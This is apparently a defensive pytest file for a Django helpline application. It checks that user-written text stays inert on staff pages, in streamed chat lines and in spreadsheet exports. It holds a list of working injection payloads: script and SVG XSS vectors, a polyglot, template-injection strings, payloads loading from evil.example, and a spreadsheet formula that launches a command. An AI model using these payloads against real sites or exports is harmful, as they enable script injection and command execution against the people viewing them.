"""Whatever somebody writes stays words: no script injection does anything to staff (H01).

The patterns are those of the field: OWASP's, polyglots, SVG, `javascript:`, mutation and templates.
"""

import uuid
from html import unescape
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from contacts.models import Contact, Guidance, Line, QuickReply, SentAnyway, SurveyAnswer
from contacts.showing import said
from helpline.foundation.sheets import sheet
from tests.chatting import a_chat, fresh

pytestmark = pytest.mark.django_db

PATTERNS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=a()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><button>Send</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'</style>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</li></ol></div><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<div hx-get=/staff/chats/ hx-trigger=load>x</div>",
    "<p data-live=//evil.example data-stream=//evil.example>",
    "{{ 7|add:7 }}{% debug %}{% load x %}",
    "{handle}{0}{csrf}{cursor}",
    "${alert(1)}`${alert(1)}`",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ufeff<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "=cmd|'/c calc'!A1",
    "data: x\n\nevent: rail\ndata: <script>alert(1)</script>",
]


class Seen(HTMLParser):
    """Every element and attribute of a page, as a browser would find them, and its words."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple]] = []
        self.words = ""
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, tuple(sorted(name for name, _ in attrs))))

    def handle_data(self, data):
        self.words += data


@pytest.fixture
def everywhere(worker, supervisor, signed_in):
    """A chat that holds these words wherever somebody can write, and the pages that show it."""

    def made(words: list[str]) -> dict[str, Seen]:
        visit = a_chat(*words, worker=worker, nickname=words[0])
        contact = fresh(visit)
        for number, text in enumerate(words, start=1):
            contact.add_note(text, by=worker)
            SurveyAnswer.objects.create(
                contact=contact, number=number, question="How?", answer=text
            )
            Guidance.objects.ask(contact, text, by=worker)
            line = {"nonce": uuid.uuid4(), "kinds": ["meeting"], "reason": text, "by": worker}
            SentAnyway.objects.say(contact, text, **line)
            QuickReply.objects.add(by=supervisor, shared=True, title=text[:80], text=text)
        visit.pass_on(to=supervisor, note="\n".join(words), why="It is a test.", by=worker)
        boss, chat = signed_in(supervisor), [visit.pk]
        pages = {name: boss.get(reverse(name)) for name in BOARDS}
        pages |= {name: boss.get(reverse(name, args=chat)) for name in ("chats_one", "contact")}
        too_long = {"text": "\n".join(words) * 50, "nonce": uuid.uuid4()}
        pages["box"] = boss.post(reverse("chats_say", args=chat), too_long)
        Contact.objects.all().delete()
        return {name: Seen(answer.content.decode()) for name, answer in pages.items()}

    return made


BOARDS = ("guidance", "sent_anyway", "replies", "notes_review")


def test_h01_no_pattern_makes_an_element_or_an_attribute(everywhere):
    """H01: every page, and so its print, has the elements that it has with ordinary words."""
    plain = everywhere(["ordinary words that are here"] * len(PATTERNS))
    hostile = everywhere(PATTERNS)
    for name, seen in hostile.items():
        assert set(seen.elements) == set(plain[name].elements), name
    for words in PATTERNS:
        assert letters(words) in letters(hostile["chats_one"].words), words


def letters(words: str) -> str:
    """What is left of words when only letters count: marks and spaces differ between pages."""
    return "".join(letter for letter in unescape(words) if letter.isascii() and letter.isalnum())


def test_h01_a_pattern_is_inert_in_the_fragment_that_a_stream_sends(worker):
    """H01: each fragment is one line and nothing else."""
    contact = fresh(a_chat(*PATTERNS, worker=worker))
    for line in Line.objects.opened(contact):
        tags = [tag for tag, _ in Seen(said(line)).elements]
        assert tags == ["li", "div", "b", "span", "p"], line.words


@pytest.mark.parametrize("words", [*PATTERNS, "+1", "-1", "@x", "\t=1", "＝1"])
def test_h01_a_pattern_starts_no_formula_in_an_export(words):
    """H01: were it ever a cell of a sheet, it would be text; our sheets hold counts alone."""
    cell = sheet([[words]]).decode("utf-8-sig")
    assert cell.startswith('"')
    assert cell[1:].lstrip(" ")[0] not in "=+-@\t\r\n＝＋－＠"
